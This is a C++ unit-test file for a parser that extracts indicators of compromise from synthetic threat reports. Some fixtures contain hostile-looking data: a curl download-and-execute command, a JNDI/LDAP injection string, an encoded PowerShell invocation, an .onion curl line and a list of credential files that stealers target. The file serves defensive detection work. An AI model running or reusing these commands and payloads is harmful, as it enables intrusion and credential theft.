// Lists, tables and exports as publishers keep them beside their articles. Every text here is made up; the forms were met in
// real ones.
#include "clew/intel/detail/notice_under_test.h"

#include <algorithm>
#include <string>
#include <vector>

#include <gtest/gtest.h>

namespace clew::intel {
namespace {

using detail::Values;
using detail::values_of;
using model::Notice;
using detail::read;

/// Whatever is made of a text, each indicator stands where it says.
using detail::md5;
using detail::sha256;

TEST(ListForms, AnItemWithAColonLeadsInTheValuesBesideIt) {
  const auto notice = detail::read(
      "- 2024-05-06 a phishing campaign with empty mails\n- Download sites:\n- http://moth.top/a7\n- http://sandfly.top/a7\n"
      "- Malware:\n- The sender varies.\n- http://news.top/story\n- See also:\n- http://blog.top/story\n");
  EXPECT_EQ(detail::values_of(notice), (detail::Values{"url http://moth.top/a7", "url http://sandfly.top/a7"}));
}

TEST(ListForms, LinesMayEndWithAReturnAlone) {
  EXPECT_EQ(values_of(read("Type,Value,Description\rDomain,moth[.]test,C2\rSHA256," + sha256 + ",a.dll\r")),
            (Values{"domain moth.test", "sha256 " + sha256}));
}

TEST(ListForms, TheHashOfAnEmptyFileIsNobodys) {
  const Notice notice = read("# Indicators\n\n| MD5 | SHA256 |\n|---|---|\n| " + md5 + " | " + sha256 +
                             " |\n| d41d8cd98f00b204e9800998ecf8427e | "
                             "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 |\n");
  EXPECT_EQ(values_of(notice), (Values{"md5 " + md5, "sha256 " + sha256}));
  EXPECT_EQ(notice.mentions.size(), 2U);
}

TEST(ListForms, AUrlEndsWithTheCommandThatItStandsIn) {
  EXPECT_EQ(values_of(read("# Indicators\n\n```\ncurl -o a.vbs http://198.51.100.7/in/123&&timeout 10&&a.vbs\n```\n\n"
                           "- hxxp://moth[.]test/?a=&&b=1\n")),
            (Values{"url http://198.51.100.7/in/123", "url http://moth.test/?a=&&b=1"}));
}

TEST(ListForms, OptionsAndRequirementsOfThePublishersToolAreNoPackages) {
  EXPECT_EQ(values_of(read("# Indicators of compromise for the malicious npm package\n\n**Requirements**: `sand` npm "
                           "package.\n\n```\noptions:\n  -h, --help  show this\n  --org ORG   all\n```\n")),
            Values{});
}

TEST(ListForms, StatementsOfAProgramNameNoMutex) {
  EXPECT_EQ(values_of(read("<h4>It makes one mutex.</h4>\n\n```c\nstrcpy(&v2, \"moth\"); // name\n(Create)(0, &v2);\n"
                           "```\n\n<h4>Mutexes</h4>\n\n```\nmoth-1\n```\n")),
            (Values{"mutex moth-1"}));
}

TEST(ListForms, AServerInBracketsBehindItsRoleNeedsNoBrokenDot) {
  EXPECT_EQ(
      values_of(read("# A bot\n\nIt sends to its C2.\n\n```c\nsend(p); // added to the URL of C2(moth.test)\n```\n")),
      (Values{"domain moth.test"}));
}

TEST(ListForms, MoreSourcesOfIndicatorsAreToReadOn) {
  EXPECT_EQ(values_of(read("# Indicators\n\n- moth[.]test\n\n## Additional sources of indicators\n\n"
                           "- https://sand.test/blog/a\n")),
            (Values{"domain moth.test"}));
}

TEST(ListForms, WhatIsGenuineEndsWhereTheHarmBegins) {
  EXPECT_EQ(values_of(read("A case\n\nLegitimate repository\n\nhttps://github.com/sand/sand\n\nMalicious download\n\n"
                           "https://github.com/moth/moth/archive/main.zip\n\nIt held a script:\n\nMD5: " +
                           md5 + "\n")),
            (Values{"md5 " + md5, "url https://github.com/moth/moth/archive/main.zip"}));
}

TEST(ListForms, ANameOfAColumnMaySayHowItsValuesAreWritten) {
  EXPECT_EQ(values_of(read("# Indicateurs\n\n| Type | Valeur (DEFANG) |\n|---|---|\n| Nom de fichier | `moth7.exe` |\n"
                           "| Domaine | `moth[.]test` |\n")),
            (Values{"domain moth.test", "file_name moth7.exe"}));
}

TEST(ListForms, AKindMayStandInARemarkAndASourceIsNoIndicator) {
  EXPECT_EQ(
      values_of(read("indicator_type,data,additional_data,description\nsource,https://sand.test/blog/a,,A report\n"
                     "domain,moth[.]test,,C2 server\nother,moth-js@4.2.1,npm package,dropper\n"
                     "other,0xDEED,magic value,of the header\n")),
      (Values{"domain moth.test", "package moth-js"}));
}

TEST(ListForms, ASecondColumnOnTheNatureOfAValueIsNotItsKind) {
  EXPECT_EQ(values_of(read("indicator_type,nature,data,description\nmutex,malicious,moth-1,of the bot\n"
                           "domain,malicious,moth[.]test,C2\n")),
            (Values{"domain moth.test", "mutex moth-1"}));
}

TEST(ListForms, ARemarkInATableNamesOtherValuesThatAreBroken) {
  EXPECT_EQ(values_of(read("# Indicators\n\n| IP | Context |\n|---|---|\n| 198.51.100.7 | moth[.]test (second wave), "
                           "behind sand.test |\n")),
            (Values{"domain moth.test", "ipv4 198.51.100.7"}));
}

TEST(ListForms, NamesOfFilesAndValuesTogetherAreAList) {
  EXPECT_EQ(
      values_of(read("moth.test\nmoth7.dll\nmoth_prices.exe\nMozilla/5.0 (X11; moth)\n" + sha256 + "\n" + md5 + "\n")),
      (Values{"domain moth.test", "file_name moth7.dll", "file_name moth_prices.exe", "md5 " + md5,
              "sha256 " + sha256}));
}

TEST(ListForms, DroppedFilesAreHeadedSo) {
  EXPECT_EQ(values_of(read("## Files dropped:\n\n* /var/tmp/moth\n* /tmp/moth.out\n")),
            (Values{"file_path /tmp/moth.out", "file_path /var/tmp/moth"}));
}

TEST(ListForms, AHandbookOfCommandsIsNoListOfReferences) {
  EXPECT_EQ(values_of(read("# Moth command reference\n\n| Command | Description |\n|---|---|\n"
                           "| get | Asks the C2 (default: https://moth[.]test). |\n")),
            (Values{"url https://moth.test"}));
}

TEST(ListForms, KeysAndPiecesOfNamesAreNoValues) {
  EXPECT_EQ(values_of(read("# A loader\n\n```\n{\n  \"public_key_sha256\": \"" + sha256 +
                           "\",\n}\n```\n\n```js\nvar c = \"curl http://\" + host + \"3ad.onion/in.php\";\n```\n")),
            Values{});
}

TEST(ListForms, TablesPastedOutOfAPageHaveTabsBetweenTheirCells) {
  const Notice notice = read(
      "Indicators\n\nType\tValue\tDescription\nDLL\tmoth-7.dll\tloader\nDomain\tmoth.test\tC2 of the "
      "bot\n\nMalicious package\tImpersonates\tDownloads\nmoth-pro\tsand\t12\n\nMore text.\n");
  EXPECT_EQ(values_of(notice), (Values{"domain moth.test", "file_name moth-7.dll", "package moth-pro"}));
  const auto host = std::ranges::find(notice.indicators, model::ValueType::domain,
                                      [](const auto& indicator) { return indicator.value.type(); });
  ASSERT_NE(host, notice.indicators.end());
  EXPECT_EQ(host->role, model::Role::c2);
}

TEST(ListForms, AColumnMayNameWhoseItsValuesAre) {
  EXPECT_EQ(values_of(read(
                "# Typosquatting on npm\n\n| Malicious Package | Impersonates |\n|---|---|\n| `moth-pro` | `sand` |\n\n"
                "| Affected host | Note |\n|---|---|\n| victim.test | cleaned |\n")),
            (Values{"package moth-pro"}));
}

TEST(ListForms, PathsGoOnBehindTheirBlanks) {
  EXPECT_EQ(values_of(read("# Indicators\n\n- Registry key: HKLM\\SOFTWARE\\Moth Works NT\\Run\\moth\n"
                           "- ~/.moth/User Name.txt\n- ~/Library/moth.plist - persistence\n"
                           "- C:\\Program Files (x86)\\Moth\\a.exe was seen\n")),
            (Values{"file_path C:\\Program Files (x86)\\Moth\\a.exe", "file_path ~/.moth/User Name.txt",
                    "file_path ~/Library/moth.plist", "registry_key HKLM\\SOFTWARE\\Moth Works NT\\Run\\moth"}));
}

TEST(ListForms, AColumnOfPathsHoldsKeysOfTheRegistryAndNoCommands) {
  EXPECT_EQ(
      values_of(read("# Indicators\n\n| Path / Artifact | Description |\n|---|---|\n| `%TEMP%\\moth` | dropped |\n"
                     "| `HKCU\\Console\\Moth` | queried |\n| `powershell.exe -nop -enc` | spawned |\n")),
      (Values{"file_path %TEMP%\\moth", "registry_key HKCU\\Console\\Moth"}));
}

TEST(ListForms, ARemarkBehindAUserAgentIsNoPartOfIt) {
  EXPECT_EQ(values_of(read("# Indicators\n\nUser-Agent strings:\n\n- Mozilla/5.0 (X11; Moth) Gecko (KHTML, like Gecko) "
                           "Moth/1.0 (used by the second wave)\n")),
            (Values{"user_agent Mozilla/5.0 (X11; Moth) Gecko (KHTML, like Gecko) Moth/1.0"}));
}

TEST(ListForms, ASentenceListsPackagesBehindItsColon) {
  EXPECT_EQ(values_of(read("# An attack\n\nThe two malicious packages were published by a user named moth: moth-sdk, "
                           "moth-tools-sdk. Other packages are harmful, too: they are large, and slow.\n")),
            (Values{"package moth-sdk", "package moth-tools-sdk"}));
}

TEST(ListForms, TheHostOfTheTitleIsWhoseIncidentItIs) {
  EXPECT_EQ(
      values_of(read(
          "# Sand.test security incident\n\nIn May we received a report.\n\nThe malicious files were also copied to "
          "`mirror.sand.test`.\n")),
      Values{});
}

TEST(ListForms, WhatIsToReadOnIsNotWhereTheMalwareIs) {
  EXPECT_EQ(values_of(read("# A bot\n\nMore examples of the malicious bot can be found at sand.test.\n")), Values{});
}

TEST(ListForms, AHeadingOnAbuseOfGenuineToolsEndsWithTheNextOne) {
  EXPECT_EQ(values_of(read("A bot\n\nLegitimate tools\n\nNothing else.\n\nTraffic analysis\n\nThe victim connects to a "
                           "suspicious address (198.51.100.7).\n")),
            (Values{"ipv4 198.51.100.7"}));
}

TEST(ListForms, ObjectsOfScriptsAreNoHostsAndTheirVariablesNoLinks) {
  EXPECT_EQ(
      values_of(read(
          "# A bot\n\n## C2 servers\n\nb = new ActiveXObject(\"wscript.shell\");\nu=\"http://198.51.100.7:81/in\"\n"
          "<a href=\"http://198.51.100.8/report\">ours</a>\n")),
      (Values{"url http://198.51.100.7:81/in"}));
}

TEST(ListForms, AListOfPackagesIsLedInWithoutTheWordForHarm) {
  EXPECT_EQ(
      values_of(read(
          "# A hijacked account\n\nActors published malicious packages to npm. Many repositories were made public.\n\n"
          "The list of affected packages is below -\n\n* @moth/a\n* moth-b (npm) - 12 downloads\n\n"
          "Other news. The packages that were identified are below -\n\nmoth-c (PyPI) - 3 downloads\n@moth/d\n")),
      (Values{"package @moth/a", "package @moth/d", "package moth-b", "package moth-c"}));
}

TEST(ListForms, HostsSentencesAndLabelsUnderPackagesAreNone) {
  EXPECT_EQ(
      values_of(read(
          "# IOCs: malicious npm packages\n\ndomain:\n- moth.test\n\n## Notes\n\n- `b.moth.test` is the exfiltration server "
          "of the poisoned `moth-js` package.\n- `npmjs.com` is only the registry.\n- Domain : c[.]moth[.]test\n")),
      (Values{"domain b.moth.test", "domain c.moth.test", "domain moth.test", "package moth-js"}));
}

TEST(ListForms, AliasesAreAccountsAndProgramsNoPackages) {
  EXPECT_EQ(
      values_of(read(
          "# Malicious Ruby gems\n\n## Indicators\n\n### Threat actor aliases\n\n- `moth-org` \xe2\x80\x94 GitHub username\n\n"
          "### Ruby gems\n\n- `moth-gem`\n\n### Notes\n\nThe malicious module plants a fake `go` wrapper.\n")),
      (Values{"account moth-org", "package moth-gem"}));
}

TEST(ListForms, WhatIntrudersReadIsNoIndicator) {
  EXPECT_EQ(
      values_of(read("# Indicators\n\n- `~/.ssh/id_rsa`\n- `~/.aws/credentials`\n- `wallet.dat`\n- `~/.moth/id`\n\n"
                     "**Targeted files:**\n\n- `~/.config/sand/keys`\n")),
      (Values{"file_path ~/.moth/id"}));
}

TEST(ListForms, WhomToPayIsNoContactOfThePublishers) {
  EXPECT_EQ(
      values_of(read(
          "# Moth ransomware indicators\n\n## Contact information\n\n```\nmoth@onionmail.org\nwe@sand.test\n```\n\n"
          "## Contact us\n\nWrite to moth-research@gmail.com.\n")),
      (Values{"email moth@onionmail.org"}));
}

TEST(ListForms, AFileAtAServiceOfEverybodyIsHeadedAsADownload) {
  EXPECT_EQ(
      values_of(read("DOCUMENT DOWNLOAD URLS\nhttps://drive.google.com/uc?id=1fm9Wev\nhttps://drive.google.com/\n\n"
                     "INDICATORS AS A LIST\nhttps://drive.google.com/file/all\n")),
      (Values{"url https://drive.google.com/uc?id=1fm9Wev"}));
}

TEST(ListForms, NamesOfUsersStandBesideListsOfIndicators) {
  EXPECT_EQ(values_of(read(
                "IP addresses (before the patch):\n198[.]51[.]100[.]7\n\nUsernames: \nmoth_admin \nmoth_support \n")),
            (Values{"account moth_admin", "account moth_support", "ipv4 198.51.100.7"}));
}

TEST(ListForms, ListsThatStandBesideTheTextAreNoSamples) {
  EXPECT_EQ(
      values_of(read(
          "# Moth indicators of compromise\n\nIt has these files:\n\n* `domains.txt`: C2 servers\n* `cert_hashes.txt`: of "
          "certificates\n* `moth.dll`: the loader\n")),
      (Values{"file_name moth.dll"}));
}

TEST(ListForms, AWildcardIsNoMarkOfEmphasis) {
  EXPECT_EQ(values_of(read(
                "# Indicators\n\n| Type | Value |\n|---|---|\n| Domain | `*.moth.test` |\n| Domain | **sand.test** |\n"
                "| File path | `*/site-packages/moth.pth` |\n")),
            (Values{"domain moth.test", "domain sand.test"}));
}

TEST(ListForms, ASiteOfEverybodyInASentenceOfAListIsNotMeant) {
  EXPECT_EQ(
      values_of(read("# Indicators\n\n- Connections to `login.microsoftonline.com` by `moth-agent`\n- `moth.test`\n")),
      (Values{"domain moth.test"}));
}

TEST(ListForms, LinesOfAddressesInABlockOfCodeAreAList) {
  EXPECT_EQ(values_of(read(
                "# A group\n\n## Environment\n\n```\n198.51.100.7\n5.8.18.6\n```\n\n```\nversion\n5.8.18.7\n```\n")),
            (Values{"ipv4 198.51.100.7", "ipv4 5.8.18.6"}));
}

TEST(ListForms, WordsOfARegistryAndRevisionsAreNoPackages) {
  EXPECT_EQ(
      values_of(read(
          "# A hijacked npm package\n\nThe malicious package `moth-js` has `optionalDependencies` at commit `79ac49ee`.\n\n"
          "| Package | Version |\n|---|---|\n| `@moth/a` | `1.2.3-alpha.1` |\n")),
      (Values{"package @moth/a", "package moth-js"}));
}

TEST(ListForms, AddressesOfALogAreWhereTheActivityCameFrom) {
  EXPECT_EQ(
      values_of(read(
          "# Incident\n\n* **2026-01-27**: Final observed activity: probes from `198.51.100.7`.\n\n"
          "Our jobs pull from `198.51.100.8`.\n\nThe key was stolen by them (IPs 198.51.100.9, 198.51.100.10).\n")),
      (Values{"ipv4 198.51.100.10", "ipv4 198.51.100.7", "ipv4 198.51.100.9"}));
}

TEST(ListForms, WhoseAccountItWasIsNoIndicator) {
  EXPECT_EQ(
      values_of(read(
          "# First sign-in by the intruder\n\n| Field | Value |\n|---|---|\n| User | bob@sand.test |\n| IP | 198.51.100.7 |\n\n"
          "| Country | Sample IPs |\n|---|---|\n| X | 198.51.100.8, 198.51.100.9 |\n")),
      (Values{"ipv4 198.51.100.7", "ipv4 198.51.100.8", "ipv4 198.51.100.9"}));
}

TEST(ListForms, ALineOfAddressesMayHaveCommas) {
  EXPECT_EQ(values_of(read(
                "Indicators\n\nResidential proxies:\n\n198.51.100.7, 198.51.100.8\n198.51.100.9, 198.51.100.10;\n")),
            (Values{"ipv4 198.51.100.10", "ipv4 198.51.100.7", "ipv4 198.51.100.8", "ipv4 198.51.100.9"}));
}

TEST(ListForms, AParagraphThatIsSetLargeHeadsNothing) {
  EXPECT_EQ(values_of(read(
                "# Notes on a group\n\n#### The reference of the loader was also seen by us in three samples of the "
                "last year (" +
                sha256 + ").\n\nMore of it: " + md5 + "\n")),
            (Values{"md5 " + md5, "sha256 " + sha256}));
}

TEST(ListForms, ASampleMayBeKeptUnderItsHash) {
  EXPECT_EQ(values_of(read(
                "# A scan\n\n```\n> scan.exe -r \"C:\\Users\\x\\Big Moth\"\nMoth_Rule C:\\Users\\x\\Big Moth\\a\\" +
                sha256 + "\nkept in /var/lib/docker/containers/" + std::string(64, 'a') + "1\n```\n")),
            Values{"sha256 " + sha256});
}

TEST(ListForms, WhereAReportComesFromIsNoIndicator) {
  EXPECT_EQ(values_of(read(
                "# A report\n\n| Field | Value |\n|---|---|\n| Author | J. Moth, https://github.com/moth/reports |\n"
                "| Primary source | https://news.test/a |\n\n## Indicators\n\n- moth[.]test\n\n"
                "### Source (url) of the articles\n* https://news.test/b\n")),
            Values{"domain moth.test"});
}

TEST(ListForms, AFileInARemarkBesideABrokenNameIsNoHost) {
  EXPECT_EQ(values_of(read(
                "# Indicators\n\n| Type | Value |\n|---|---|\n| Payload domain | `moth[.]test` (gives Cam.zip) |\n")),
            Values{"domain moth.test"});
}

TEST(ListForms, WhatProgramsAreBuiltWithIsNoHost) {
  EXPECT_EQ(
      values_of(read(
          "# Indicators\n\n| Pattern | Sign |\n|---|---|\n| imports `clipboard`, `socket.io`, and `moth` | stealer |\n")),
      Values{});
}

TEST(ListForms, WhatIsHeadedAsImpersonatedIsNoIndicator) {
  EXPECT_EQ(
      values_of(read(
          "# Phishing domains\n\n```\nmoth.test\n```\n\n## Impersonated domains\n\n```\nsand.test\nfly.test\n```\n")),
      Values{"domain moth.test"});
}

TEST(ListForms, TwoMarksMayOpenACodeSpan) {
  EXPECT_EQ(
      values_of(read("## Phishing IPs\n\n``198.51.100.7`` (``moth.test``, ``sand.test`` and others)\n\n## About\n\nA "
                     "``quoted'' name: fly.test\n")),
      (Values{"domain moth.test", "domain sand.test", "ipv4 198.51.100.7"}));
}

TEST(ListForms, HeadersOfAMailNameItsSender) {
  EXPECT_EQ(values_of(read("2024-03-03 - MALSPAM\n\nEMAIL HEADERS:\n\nSubject: Invoice\nFrom: bill@moth.test\n"
                           "To: bob@sand.test\nMessage-Id: <1234@fly.test>\n")),
            Values{"email bill@moth.test"});
}

TEST(ListForms, AnAddressInCodeIsMeantInASectionOfIndicators) {
  EXPECT_EQ(
      values_of(read(
          "## Indicators of compromise\n\nThe blocks `198.51.100.0/24` and `203.0.113.0/24` are worth a search.\n\n"
          "## Tools\n\nThey scan `192.0.2.0/24`.\n")),
      (Values{"cidr 198.51.100.0/24", "cidr 203.0.113.0/24"}));
}

TEST(ListForms, ARepositoryInAFencedListOfIndicatorsIsOne) {
  EXPECT_EQ(values_of(read(
                "## Indicators\n\nHosting, reported in May:\n\n```\nhttps://github.com/moth/update-helper   (removed)\n"
                "```\n\nOur rules:\n\n- https://github.com/sand/rules\n")),
            Values{"url https://github.com/moth/update-helper"});
}

TEST(ListForms, AFilterOfPacketsNamesWhatItLooksFor) {
  EXPECT_EQ(
      values_of(read(
          "# Traffic\n\nUse this filter: **_(http.request and ip.addr eq 198.51.100.7) or ip.dst == 203.0.113.9_**\n")),
      (Values{"ipv4 198.51.100.7", "ipv4 203.0.113.9"}));
}

TEST(ListForms, ALeadThatPointsBackLeadsInWhatTheSentenceBeforeItNames) {
  EXPECT_EQ(values_of(read(
                "# A report\n\nBlock a number of IP addresses, so that the malware finds no C2 server. These are a few "
                "(the rest is elsewhere):\n\n- 45.9.148.7\n- 45.9.148.8\n")),
            (Values{"ipv4 45.9.148.7", "ipv4 45.9.148.8"}));
}

TEST(ListForms, ThePageOfASampleHoldsItsHash) {
  const std::string hash = "5f2d3ed67a577526fcbd9a154f522cce5f2d3ed67a577526fcbd9a154f522cce";
  EXPECT_EQ(values_of(read("# A report\n\nThe malware: https://www.virustotal.com/gui/file/" + hash + "/detection\n")),
            Values{"sha256 " + hash});
  EXPECT_EQ(values_of(read("# Indicators\n\n- [a.exe](https://bazaar.abuse.ch/sample/" + hash + "/)\n")),
            Values{"sha256 " + hash});
  EXPECT_EQ(values_of(read("# Our program\n\nScanned: https://www.virustotal.com/gui/file/" + hash + "\n")), Values{});
}

TEST(ListForms, WhatIsCalledAMaliciousPlaceMayStandInBracketsOrAsALink) {
  EXPECT_EQ(values_of(read("# A report\n\nIt led users to a malicious domain (moth.com), which served the file.\n\n"
                           "An untrusted website at **[sand.com](https://sand.com)** copies us.\n\n"
                           "The news site [bug.com](https://bug.com) told of malware.\n")),
            (Values{"domain moth.com", "domain sand.com"}));
}

TEST(ListForms, AHashOverTwoLinesMayBeginWithADigit) {
  const std::string upper = "06b323e0b626dc4f051596a39f52c46b35f";
  const std::string lower = "88ea6f85a56de0fd76ec73c7f3851";
  const std::string other = "7d4f35981a6ebff34840d1bf7ce7440c9b7\n65e9b6aa8fc96f0b2021db73d1300";
  EXPECT_EQ(
      values_of(read("Text of a report is here. It goes on\nand on.\nSamples of moth.test\n" + upper + "\n" + lower +
                     "\n" + other + "\nThe end.\n")),
      (Values{"sha256 " + upper + lower, "sha256 7d4f35981a6ebff34840d1bf7ce7440c9b765e9b6aa8fc96f0b2021db73d1300"}));
  // Neither are two such pieces a value with a remark, nor a file of them a list of broken hashes.
  EXPECT_EQ(values_of(read(upper + "\n" + lower + "\n\n" + other + "\n")).size(), 2U);
}

TEST(ListForms, WhoWritesANoteOfRansomGivesAnAddress) {
  EXPECT_EQ(
      values_of(read(
          "# Moth\n\nDo you want to restore your files?\nWrite to: bob@moth.test\nReserved email: eve@sand.test\n\n"
          "Write to us: desk@news.test\n")),
      (Values{"email bob@moth.test", "email eve@sand.test"}));
}

TEST(ListForms, WhatAProgramAsksOnceItRunsIsMeant) {
  EXPECT_EQ(
      values_of(read("# Moth\n\nUpon execution it sends a GET request to the domain moth.com.\n\nThe browser sends a "
                     "request to the domain sand.com.\n")),
      Values{"domain moth.com"});
}

TEST(ListForms, AHashMayBeWrittenAsANumber) {
  EXPECT_EQ(values_of(read("# Moth\n\nThe MD5 checksum of the file is: 0x1D62B1CA494D55ED686D60E7AF60EF95\n")),
            Values{"md5 1d62b1ca494d55ed686d60e7af60ef95"});
}

TEST(ListForms, WhoAsksToBlockNamesWhatAndMaySetItBold) {
  EXPECT_EQ(values_of(read("# Blocklist addition request\n\n`moth.test`\n\n**Reason:** a drainer\n")),
            Values{"domain moth.test"});
  EXPECT_EQ(values_of(read("# [Block Domain]\n\n**https://sand.test/a**\nhttps://sand.test/a this site is new\n")),
            Values{"url https://sand.test/a"});
}

TEST(ListForms, TheNameOfAVariableSaysWhatIsInIt) {
  EXPECT_EQ(
      values_of(read(
          "Hunt for it:\n\nlet malicious_domains = dynamic([\"moth.com\", \"sand.com\"]);\nlet names = [\"bug.com\"];\n")),
      (Values{"domain moth.com", "domain sand.com"}));
}

TEST(ListForms, WhatIsBrokenInACommentOfAListIsMeant) {
  EXPECT_EQ(
      values_of(
          read("# A list\n# reached at hxxp://moth[.]test/a, see news.test\nmoth.test\nsand.test\n# and bug[.]test\n")),
      (Values{"domain bug.test", "domain moth.test", "domain sand.test", "url http://moth.test/a"}));
}

TEST(ListForms, TheLastLineAboveAFenceIsNoHeading) {
  EXPECT_EQ(values_of(read(
                "== Samples\n\nAll hashes are SHA1\n\n=== C&C Domains\n----\nmoth.test\nsand.test\nbug.test\n----\n\n"
                "=== IPs\n----\n45.9.148.7\n----\n")),
            (Values{"domain bug.test", "domain moth.test", "domain sand.test", "ipv4 45.9.148.7"}));
}

TEST(ListForms, ALineOfAFencedListSaysWhatItIs) {
  EXPECT_EQ(
      values_of(read(
          "### Network\n\n```\nmoth.com        Staging / delivery server (HTTPS)\nsand.com        Public-IP look-up\n```\n")),
      Values{"domain moth.com"});
}

TEST(ListForms, ACurlyBracketIsNoEndOfAnAddress) {
  EXPECT_EQ(values_of(read("# Payloads of the attack\n\n- ${jndi:ldap://45.9.148.7:1389/Moth}\n")),
            Values{"url ldap://45.9.148.7:1389/Moth"});
}

TEST(ListForms, ASlashMayBeAllThatIsLeftOfAScheme) {
  EXPECT_EQ(values_of(read("# Phishing\n\nSite:\n/www[.]moth[.]test/login/\n\n- /sand[.]test\n")),
            (Values{"domain sand.test", "url www.moth.test/login/"}));
}

TEST(ListForms, TheAddressOfAShownScriptIsAnAccount) {
  EXPECT_EQ(
      values_of(read(
          "# Injected code\n\n```js\nlet a = f(), address = '0x1111000000000000000000000000000000000001', abi = [];\n```\n")),
      Values{"eth_address 0x1111000000000000000000000000000000000001"});
}

TEST(ListForms, TablesBelowHeadingsAreNoList) {
  const Notice notice = read(
      "# Incident 7\n\n## Victim details\n| host | address |\n|---|---|\n| desk-1 | 198.51.100.9 |\n\n"
      "## Indicators\n| type | value |\n|---|---|\n| domain | evil-moth.test |\n");
  EXPECT_EQ(notice.source.format, "markdown");
  EXPECT_EQ(values_of(notice), (Values{"domain evil-moth.test"}));
}

}  // namespace
}  // namespace clew::intel
